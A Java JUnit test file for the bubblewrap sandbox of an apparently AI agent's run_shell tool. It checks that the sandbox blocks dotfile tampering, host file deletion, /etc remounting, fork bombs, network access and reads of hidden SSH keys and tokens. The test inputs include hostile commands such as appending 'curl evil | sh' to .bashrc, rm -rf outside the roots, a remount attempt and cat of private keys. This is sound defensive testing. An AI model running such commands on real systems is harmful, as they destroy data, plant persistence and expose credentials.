package dev.efferent.tools.shell;

import com.fasterxml.jackson.databind.ObjectMapper;
import dev.efferent.core.tools.LocalToolExecutor;
import dev.efferent.core.tools.ProgressListener;
import dev.efferent.core.tools.ToolCall;
import dev.efferent.core.tools.ToolCatalog;
import dev.efferent.core.tools.ToolExecution;
import dev.efferent.core.tools.ToolOutcome;
import dev.efferent.plugin.Settings;
import dev.efferent.tools.spi.AllowedRoots;
import dev.efferent.tools.spi.ToolResult;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Assertions;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.io.IOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.StandardProtocolFamily;
import java.net.UnixDomainSocketAddress;
import java.nio.channels.ServerSocketChannel;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.Comparator;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.UUID;
import java.util.concurrent.ThreadLocalRandom;
import java.util.concurrent.TimeUnit;
import java.util.stream.Stream;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertInstanceOf;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertSame;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.junit.jupiter.api.Assertions.fail;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

/**
 * run_shell under bubblewrap, for real. Without bubblewrap these tests are skipped on a developer's machine and
 * fail on CI ({@code CI=true}), where a skipped sandbox test would hide that the sandbox is not tested at all.
 */
class BwrapSandboxTest {
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final Path HOME = Path.of(System.getProperty("user.home"));

    @TempDir
    Path root;
    private LocalToolExecutor executor;
    private Sandbox sandbox;
    private Path scratch;
    /** What the sandbox hides: the default unless a test sets its own. */
    private HiddenPaths hidden = HiddenPaths.of(HiddenPaths.DEFAULT, HOME);

    @BeforeEach
    void requireBubblewrap() {
        if (BwrapSandbox.find(System.getenv("PATH"), BwrapSandbox.USUAL).isPresent()) {
            return;
        }
        if ("true".equalsIgnoreCase(System.getenv("CI"))) {
            fail("bubblewrap is not installed, so the shell sandbox cannot be tested: install it on the CI image "
                    + "(apt-get install bubblewrap)");
        }
        assumeTrue(false, "bubblewrap is not installed; sandbox tests skipped (they fail when CI=true)");
    }

    @AfterEach
    void close() throws IOException {
        if (executor != null) {
            executor.close();
        }
        if (scratch != null) {
            try (Stream<Path> files = Files.walk(scratch)) {
                files.sorted(Comparator.reverseOrder()).forEach(p -> p.toFile().delete());
            }
        }
    }

    private LocalToolExecutor executor(boolean network) {
        return executor(network, Shell.detect());
    }

    private LocalToolExecutor executor(boolean network, Shell shell) {
        return executor(bubblewrap(network), shell, List.of(root));
    }

    private LocalToolExecutor executor(boolean network, List<Path> roots) {
        return executor(bubblewrap(network), Shell.detect(), roots);
    }

    private Sandbox bubblewrap(boolean network) {
        return BwrapSandbox.find(System.getenv("PATH"), BwrapSandbox.USUAL)
                .map(bwrap -> Sandbox.choose("bwrap", bwrap, network, hidden, () -> ProcessLimit.detect(256)))
                .orElseGet(() -> Sandbox.withoutBubblewrap("bwrap"));
    }

    private LocalToolExecutor executor(Sandbox chosen, Shell shell, List<Path> roots) {
        sandbox = chosen;
        RunShellTool tool = new RunShellTool(new ShellLimits(64 * 1024, Duration.ofSeconds(30)), shell,
                ChildEnvironment.of(List.of(), System.getenv(), false), sandbox);
        executor = new LocalToolExecutor(ToolCatalog.of(List.of(new ShellToolkit(List.of(tool)))),
                AllowedRoots.of(roots));
        return executor;
    }

    private static ToolCall call(Map<String, ?> params) {
        return new ToolCall("test", "run_shell", JSON.valueToTree(params), Duration.ofSeconds(60));
    }

    private static ToolResult run(LocalToolExecutor executor, String command) throws Exception {
        ToolOutcome outcome = executor.execute(call(Map.of("command", command)), ProgressListener.NONE)
                .outcome().get(60, TimeUnit.SECONDS);
        return outcome.result().orElseThrow(() -> new AssertionError("no result: " + outcome));
    }

    private static String out(ToolResult result) {
        return (String) result.structured().get("stdout");
    }

    @Test
    void bubblewrapIsTheDefaultAndTheModelIsToldWhatItForbids() {
        String description = new ShellToolkitProvider().create(Settings.empty()).tools()
                .getFirst().spec().description();
        assertTrue(description.endsWith(" Commands run in a sandbox: the file system is read-only except the roots "
                + "and a private, empty /tmp; there is no network; at most 256 processes."), description);
    }

    @Test
    void aCommandWritesInsideARoot() throws Exception {
        ToolResult result = run(executor(false), "echo data > out.txt && cat out.txt && pwd");
        assertEquals(0, result.structured().get("exitCode"), result.text());
        assertEquals("data\n" + root.toRealPath() + "\n", out(result));
        assertEquals("data\n", Files.readString(root.resolve("out.txt")));
    }

    /**
     * A new directory outside /tmp, where the sandbox sees the host's files: under target/, or /var/tmp when the
     * checkout itself lies under /tmp (as CI's clone may), since the sandbox's /tmp is a private, empty one.
     */
    private static Path outsideTmp(String prefix) throws IOException {
        Path target = Path.of("target").toAbsolutePath();
        Files.createDirectories(target);
        Path base = target.toRealPath().startsWith("/tmp") ? Path.of("/var/tmp") : target;
        return Files.createTempDirectory(base, prefix).toRealPath();
    }

    @Test
    void withTheHomeAsTheRootItsDotfilesStayReadOnly() throws Exception {
        Path home = root.toRealPath();
        Files.writeString(home.resolve(".bashrc"), "safe\n");
        Files.createDirectories(home.resolve(".config"));
        String saved = System.getProperty("user.home");
        System.setProperty("user.home", home.toString());
        try {
            ToolResult result = run(executor(false), "echo x > work.txt; echo 'curl evil | sh' >> .bashrc; "
                    + "echo hook > .config/hook; cat work.txt");
            assertEquals("x\n", out(result), result.text());
            assertTrue(result.text().contains("Read-only file system"), result.text());
            assertEquals("safe\n", Files.readString(home.resolve(".bashrc")));
            assertFalse(Files.exists(home.resolve(".config/hook")));
        } finally {
            System.setProperty("user.home", saved);
        }
    }

    @Test
    void rmOfADirectoryOutsideTheRootsFailsAndLeavesItIntact() throws Exception {
        scratch = outsideTmp("sandbox-scratch-");
        Files.writeString(scratch.resolve("precious.txt"), "keep me");
        // It must be visible inside, or rm would "succeed" on nothing and prove nothing.
        ToolResult result = run(executor(false), "test -f " + scratch + "/precious.txt || exit 99; rm -rf " + scratch);
        assertNotEquals(0, result.structured().get("exitCode"), result.text());
        assertTrue(result.text().contains("Read-only file system"), result.text());
        assertEquals("keep me", Files.readString(scratch.resolve("precious.txt")));
    }

    @Test
    void writingToEtcFailsEvenForRootTryingToRemount() throws Exception {
        Path probe = Path.of("/etc/efferent-sandbox-probe-" + ProcessHandle.current().pid());
        try {
            // As root with capabilities left, the remount would succeed and the write reach the host's /etc.
            ToolResult result = run(executor(false), "mount -o remount,rw / 2>/dev/null; echo owned > " + probe);
            assertNotEquals(0, result.structured().get("exitCode"), result.text());
            assertTrue(result.text().contains("Read-only file system"), result.text());
            assertFalse(Files.exists(probe));
        } finally {
            Files.deleteIfExists(probe);
        }
    }

    @Test
    void kernelSettingsAreReadOnly() throws Exception {
        // Writes the current value back, so a broken sandbox changes nothing.
        ToolResult result = run(executor(false), "cat /proc/sys/kernel/hostname > /proc/sys/kernel/hostname");
        assertNotEquals(0, result.structured().get("exitCode"), result.text());
        assertTrue(result.text().contains("Read-only file system"), result.text());
    }

    @Test
    void aForkLoopIsStoppedByTheProcessLimit() throws Exception {
        // Bounded: 400 sleeps of 5s at most; the shell gives up at its first failed fork.
        long start = System.nanoTime();
        ToolResult result = run(executor(false),
                "i=0; while [ $i -lt 400 ]; do sleep 5 & i=$((i+1)); echo $i > started; done; echo all started");
        int started = Integer.parseInt(Files.readString(root.resolve("started")).strip());
        assertTrue(started < 256, "started " + started + " of 400 with a limit of 256: " + result.text());
        assertFalse(out(result).contains("all started"), result.text());
        assertTrue(System.nanoTime() - start < TimeUnit.SECONDS.toNanos(30), "the command did not end");
    }

    @Test
    void theNetworkIsUnreachableUnlessAllowed() throws Exception {
        try (ServerSocket server = new ServerSocket(0, 50, InetAddress.getLoopbackAddress())) {
            String connect = "bash -c 'exec 3<>/dev/tcp/127.0.0.1/" + server.getLocalPort() + "' && echo connected";
            ToolResult blocked = run(executor(false), connect);
            assertNotEquals(0, blocked.structured().get("exitCode"), blocked.text());
            assertFalse(out(blocked).contains("connected"), blocked.text());
            executor.close();
            ToolResult allowed = run(executor(true), connect);
            assertEquals("connected\n", out(allowed), allowed.text());
        }
    }

    @Test
    void commandsGetNoEfferentVariablesAndCannotReadTheWorkers() throws Exception {
        ToolResult result = run(executor(false), "env; cat /proc/" + ProcessHandle.current().pid() + "/environ");
        assertFalse(result.text().contains("EFFERENT_"), result.text());
        assertFalse(result.text().contains("leak"), result.text());
    }

    @Test
    void timeoutKillsTheSandboxedTree() throws Exception {
        int marker = 1000 + ThreadLocalRandom.current().nextInt(100_000);
        ToolExecution execution = executor(false).execute(call(Map.of("command",
                "(sleep " + marker + " & wait); echo never", "timeout", 2)), ProgressListener.NONE);
        ProcessHandle sleep = findSleep(marker);
        ToolOutcome outcome = execution.outcome().get(30, TimeUnit.SECONDS);
        assertTrue(outcome.error().orElseThrow().contains("timed out after 2s and was killed with its child processes"),
                outcome.error().orElseThrow());
        assertGone(sleep);
        assertNoCgroupLeft();
    }

    @Test
    void cancelKillsTheSandboxedTree() throws Exception {
        int marker = 1000 + ThreadLocalRandom.current().nextInt(100_000);
        ToolExecution execution = executor(false).execute(call(Map.of("command",
                "(sleep " + marker + " & wait); echo never")), ProgressListener.NONE);
        ProcessHandle sleep = findSleep(marker);
        execution.cancel("cancelled by user");
        assertEquals(ToolOutcome.Status.CANCELLED, execution.outcome().get(10, TimeUnit.SECONDS).status());
        assertGone(sleep);
        assertNoCgroupLeft();
    }

    @Test
    void cancelKillsTheSandboxedTreeEvenWithoutAProcessGroup() throws Exception {
        int marker = 1000 + ThreadLocalRandom.current().nextInt(100_000);
        ToolExecution execution = executor(false, new Shell(false, Optional.empty())).execute(call(Map.of("command",
                "(sleep " + marker + " & wait); echo never")), ProgressListener.NONE);
        ProcessHandle sleep = findSleep(marker);
        execution.cancel("cancelled by user");
        assertEquals(ToolOutcome.Status.CANCELLED, execution.outcome().get(10, TimeUnit.SECONDS).status());
        assertGone(sleep);
        assertNoCgroupLeft();
    }

    @Test
    void hostSocketsUnderRunAreOutOfReach() throws Exception {
        requireWritableRun();
        Path socket = Path.of("/run/efferent-test-" + UUID.randomUUID() + ".sock");
        try (ServerSocketChannel server = ServerSocketChannel.open(StandardProtocolFamily.UNIX)) {
            server.bind(UnixDomainSocketAddress.of(socket));
            String probe = "test -S " + socket + " && echo visible || echo hidden";
            ToolResult unconfined = run(executor(new Sandbox.Unconfined(), Shell.detect(), List.of(root)), probe);
            assertEquals("visible\n", out(unconfined), "the probe sees the socket outside: " + unconfined.text());
            executor.close();
            ToolResult sandboxed = run(executor(false), probe);
            assertEquals("hidden\n", out(sandboxed), sandboxed.text());
            executor.close();
            ToolResult withNetwork = run(executor(true), probe);
            assertEquals("hidden\n", out(withNetwork), withNetwork.text());
        } finally {
            Files.deleteIfExists(socket);
        }
    }

    @Test
    void aRootUnderRunIsStillBoundAndWritable() throws Exception {
        requireWritableRun();
        Path dir = Files.createDirectory(Path.of("/run/efferent-test-" + UUID.randomUUID()));
        try {
            ToolResult result = run(executor(false, List.of(dir)), "echo data > out.txt && cat out.txt");
            assertEquals("data\n", out(result), result.text());
            assertEquals("data\n", Files.readString(dir.resolve("out.txt")));
        } finally {
            Files.deleteIfExists(dir.resolve("out.txt"));
            Files.deleteIfExists(dir);
        }
    }

    @Test
    void withTheNetworkTheResolverConfigurationStaysReadable() throws Exception {
        requireHere(Files.isReadable(Path.of("/etc/resolv.conf")), "no /etc/resolv.conf here");
        ToolResult result = run(executor(true), "cat /etc/resolv.conf");
        assertEquals(0, result.structured().get("exitCode"), result.text());
        assertEquals(Files.readString(Path.of("/etc/resolv.conf")), out(result));
    }

    @Test
    void hiddenDirectoriesAndFilesLookEmptyInsideAndStayIntactOutside() throws Exception {
        scratch = outsideTmp("sandbox-hidden-");
        Path keys = Files.createDirectory(scratch.resolve("keys"));
        Files.writeString(keys.resolve("id_ed25519"), "PRIVATE KEY");
        Path token = Files.writeString(scratch.resolve("api-token"), "TOKEN");
        Path inRoot = Files.createDirectory(root.resolve(".ssh"));
        Files.writeString(inRoot.resolve("id_rsa"), "ROOT KEY");
        hidden = HiddenPaths.of(List.of(keys.toString(), token.toString(), inRoot.toString()), HOME);

        ToolResult read = run(executor(false), "ls -A " + keys + "; cat " + keys + "/id_ed25519; cat " + token
                + "; ls -A .ssh; cat .ssh/id_rsa; echo end");
        assertEquals("end\n", out(read), read.text());
        assertFalse(read.text().contains("KEY") || read.text().contains("TOKEN"), read.text());

        ToolResult write = run(executor, "touch " + keys + "/planted; echo changed > " + token);
        assertNotEquals(0, write.structured().get("exitCode"), write.text());
        assertEquals("PRIVATE KEY", Files.readString(keys.resolve("id_ed25519")));
        assertEquals("TOKEN", Files.readString(token));
        assertEquals("ROOT KEY", Files.readString(inRoot.resolve("id_rsa")));
        assertFalse(Files.exists(keys.resolve("planted")));
    }

    @Test
    void aRootInsideAHiddenDirectoryStaysUsable() throws Exception {
        scratch = outsideTmp("sandbox-hidden-");
        Path secrets = Files.createDirectory(scratch.resolve("secrets"));
        Files.writeString(secrets.resolve("api-token"), "TOKEN");
        Path work = Files.createDirectory(secrets.resolve("work"));
        Files.writeString(work.resolve("in.txt"), "input\n");
        hidden = HiddenPaths.of(List.of(secrets.toString()), HOME);
        ToolResult result = run(executor(false, List.of(work)), "cat in.txt && echo out > out.txt && ls -A ..; "
                + "cat ../api-token");
        assertEquals("input\nwork\n", out(result), result.text());
        assertFalse(result.text().contains("TOKEN"), result.text());
        assertEquals("out\n", Files.readString(work.resolve("out.txt")));
        assertEquals("TOKEN", Files.readString(secrets.resolve("api-token")));
    }

    @Test
    void aProcessLimitThatBreaksForksIsDroppedButTheSandboxKept() throws Exception {
        ProcessLimit usual = ProcessLimit.detect(256);
        requireHere(!(usual instanceof ProcessLimit.Unenforced), "no process limit can be enforced here: " + usual);
        Path bwrap = BwrapSandbox.find(System.getenv("PATH"), BwrapSandbox.USUAL).orElseThrow();
        Sandbox kept = Sandbox.choose("bwrap", bwrap, false, hidden, () -> usual);
        assertSame(usual, ((BwrapSandbox) kept).limit(), "a working limit passes the trial fork");

        // One process: bubblewrap itself; its first fork fails.
        ProcessLimit broken = usual instanceof ProcessLimit.Rlimit r ? new ProcessLimit.Rlimit(r.prlimit(), 1)
                : PidsCgroupTest.cgroup(1);
        Sandbox degraded = Sandbox.choose("bwrap", bwrap, false, hidden, () -> broken);
        ProcessLimit.Unenforced none = assertInstanceOf(ProcessLimit.Unenforced.class,
                assertInstanceOf(BwrapSandbox.class, degraded).limit());
        assertTrue(none.reason().startsWith("a trial run under " + broken + " failed (a trial run of /bin/true "
                + "exited with "), none.reason());
        assertEquals(1, none.max());
    }

    /** Unix sockets are made in the real /run; where the test may not, it is skipped, except on CI. */
    private static void requireWritableRun() {
        if (Files.isWritable(Path.of("/run"))) {
            return;
        }
        if ("true".equalsIgnoreCase(System.getenv("CI"))) {
            fail("/run is not writable, so hiding the host's sockets cannot be tested: run the tests as root on CI");
        }
        assumeTrue(false, "/run is not writable; the test of hidden host sockets is skipped (it fails when CI=true)");
    }

    @Test
    void theCommandsCgroupIsRemovedAfterIt() throws Exception {
        run(executor(false), "sleep 0.2 & true");
        assertNoCgroupLeft();
    }

    /** Root's process limit makes a cgroup per command; none may outlive its command, cancelled or not. */
    private void assertNoCgroupLeft() throws IOException, InterruptedException {
        if (!(sandbox instanceof BwrapSandbox b && b.limit() instanceof PidsCgroup cgroup)) {
            return;
        }
        List<Path> ours = List.of();
        // The outcome is reported as the call ends; the cgroup goes a moment later, once its processes are gone.
        for (int i = 0; i < 150; i++) {
            try (Stream<Path> dirs = Files.list(cgroup.parent())) {
                ours = dirs.filter(p -> p.getFileName().toString().startsWith(
                        "cmd-" + ProcessHandle.current().pid() + "-")).toList();
            }
            if (ours.isEmpty()) {
                return;
            }
            Thread.sleep(20);
        }
        fail("pids cgroups left behind: " + ours);
    }

    /** The sandbox's pids are its own; the host's view of the sleep is found by its unique argument. */
    private static ProcessHandle findSleep(int marker) throws InterruptedException {
        for (int i = 0; i < 500; i++) {
            Optional<ProcessHandle> sleep = ProcessHandle.allProcesses().filter(p -> p.info().arguments()
                    .map(a -> a.length == 1 && a[0].equals(Integer.toString(marker))).orElse(false)).findFirst();
            if (sleep.isPresent()) {
                return sleep.get();
            }
            Thread.sleep(10);
        }
        throw new AssertionError("the sandboxed command never started sleep " + marker);
    }

    private static void assertGone(ProcessHandle process) throws InterruptedException {
        for (int i = 0; i < 250; i++) {
            if (!process.isAlive()) {
                return;
            }
            Thread.sleep(20);
        }
        process.destroyForcibly();
        throw new AssertionError("sandboxed sleep " + process.pid() + " is still alive");
    }

    /** Skips where the machine lacks what the test needs, but never in CI (CI=true), where every test must run. */
    private static void requireHere(boolean condition, String what) {
        if (!condition && "true".equals(System.getenv("CI"))) {
            Assertions.fail(what + "; with CI=true this test must run");
        }
        Assumptions.assumeTrue(condition, what);
    }
}
